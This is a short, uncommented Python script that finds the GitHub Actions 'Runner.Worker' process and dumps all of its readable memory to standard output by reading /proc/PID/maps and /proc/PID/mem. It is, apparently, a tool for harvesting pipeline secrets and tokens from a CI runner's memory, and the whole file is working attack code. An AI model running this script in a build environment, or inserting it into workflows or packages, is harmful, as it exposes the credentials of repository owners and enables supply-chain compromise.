import os, re, sys
def pid_of(name):
    for p in os.listdir('/proc'):
        if p.isdigit():
            try:
                if name in open('/proc/%s/cmdline' % p, 'rb').read().decode(errors='ignore'):
                    return int(p)
            except Exception:
                pass
pid = pid_of('Runner.Worker')
maps = open('/proc/%d/maps' % pid).read().splitlines()
mem = open('/proc/%d/mem' % pid, 'rb', 0)
for line in maps:
    m = re.match(r'([0-9A-Fa-f]+)-([0-9A-Fa-f]+) ([-r])', line)
    if m and m.group(3) == 'r':
        s, e = int(m.group(1), 16), int(m.group(2), 16)
        if s > sys.maxsize:
            continue
        try:
            mem.seek(s); sys.stdout.buffer.write(mem.read(e - s))
        except Exception:
            pass
